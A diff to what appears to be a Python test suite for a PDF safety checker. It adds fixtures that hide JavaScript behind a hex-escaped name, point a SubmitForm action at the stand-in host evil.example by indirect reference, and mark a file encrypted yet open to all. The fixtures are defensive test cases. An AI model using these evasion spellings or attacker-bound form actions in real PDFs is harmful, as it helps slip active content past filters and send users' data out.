@@ -45,10 +45,16 @@ ACTIVE: dict[str, Build] = {
     "JavaScript outside the table": lambda: build.pdf().replace(
         b"xref", b"9 0 obj\n<</JS(x)>>\nendobj\nxref", 1
     ),
+    "JavaScript outside the table, spelled in hex": lambda: build.pdf().replace(
+        b"xref", b"9 0 obj\n<</#4aS(x)>>\nendobj\nxref", 1
+    ),
     "an embedded file": lambda: build.pdf(attachment=b"MZ"),
     "an embedded file, compressed": lambda: build.packed_pdf(b"<</Type/Filespec/EF<</F 9 0 R>>>>"),
     "an XFA form": lambda: build.pdf_with(catalog=b"/AcroForm<</Fields[]/XFA(x)>>"),
     "a form that sends": lambda: build.pdf_with(page=b"/AA<</O<</S/SubmitForm/F(https://evil.example)>>>>"),
+    "a form that sends, by reference": lambda: build.pdf_with(
+        catalog=b"/OpenAction<</S 4 0 R/F(https://evil.example)>>", more=(b"/SubmitForm",)
+    ),
     "opens another file": lambda: build.pdf_with(catalog=b"/OpenAction<</S/GoToR/F(evil)>>"),
     "rich media": lambda: build.pdf_with(page=b"/Annots[<</Subtype/RichMedia/RichMediaContent<<>>>>]"),
 }
@@ -79,6 +85,7 @@ def test_what_is_two_things_at_once_is_refused(case: str) -> None:
 
 UNREADABLE: dict[str, Build] = {
     "encrypted": lambda: build.pdf(password="x"),
+    "encrypted, yet open to all": lambda: build.pdf(owner_password="x"),
     "no end": lambda: build.pdf()[:-10],
     "cut": lambda: build.pdf(pages=9)[:400] + b"\n%%EOF",
     "no pages": lambda: build.raw_pdf(build.CATALOG, b"<</Type/Pages/Kids[]/Count 0>>"),
